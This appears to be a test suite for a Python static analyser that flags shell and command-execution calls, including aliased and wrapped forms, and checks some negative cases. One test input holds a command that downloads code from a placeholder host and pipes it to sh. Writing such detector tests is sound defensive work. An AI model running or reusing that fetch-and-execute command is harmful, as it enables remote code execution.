from loadguard.model import Severity
from native_helpers import high, rules, scan


def test_os_system_and_popen():
    assert "LG-CMD-001" in rules("import os\nos.system('echo hi')\n")
    assert "LG-CMD-001" in rules("import os\nos.popen('true').read()\n")


def test_subprocess_shell_raises_severity():
    found = {f.rule_id: f for f in scan("import subprocess\nsubprocess.run(cmd, shell=True)\n")}
    assert found["LG-CMD-002"].severity == Severity.HIGH
    found = {f.rule_id: f for f in scan("import subprocess\nsubprocess.run(['ls', '-l'])\n")}
    assert found["LG-CMD-003"].severity == Severity.MEDIUM
    assert "LG-CMD-002" in rules("import subprocess\nsubprocess.check_output('ls -l')\n")


def test_exec_spawn_family():
    assert "LG-CMD-004" in rules("import os\nos.execv('/bin/true', ['true'])\n")
    assert "LG-CMD-004" in rules("import pty\npty.spawn('/bin/true')\n")


def test_payload_command_is_critical():
    found = scan("import os\nos.system('curl http://a.invalid/x | sh')\n")
    assert any(f.rule_id == "LG-CMD-005" and f.severity == Severity.CRITICAL for f in found)


def test_aliases_resolve():
    assert "LG-CMD-001" in rules("from os import system as s\ns('true')\n")
    assert "LG-CMD-002" in rules("import subprocess as sp\nsp.Popen('true', shell=True)\n")
    assert "LG-CMD-001" in rules("import os\nrun = os.system\nrun('true')\n")
    assert "LG-CMD-001" in rules("from os import *\nsystem('true')\n")


def test_lambda_wrapper():
    found = scan("import os\nf = lambda c: os.system(c)\nf('true')\n")
    lines = {f.location.line for f in found if f.rule_id == "LG-CMD-001"}
    assert lines == {2, 3}


def test_negatives():
    assert not high("def system(x):\n    return x\nsystem('ls')\n")
    assert not high("class M:\n    def run(self):\n        self.system('ls')\n")
    assert rules("'''Call os.system(cmd) to run.'''\n# os.system('x')\n") == set()


def test_interpreter_lists_are_shells():
    assert "LG-CMD-002" in rules("import subprocess\nsubprocess.run(['/bin/sh', '-c', 'true'])\n")
    assert "LG-CMD-002" in rules(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n"
    )
    assert "LG-CMD-002" not in rules("import subprocess\nsubprocess.run(['git', '-C', 'x'])\n")
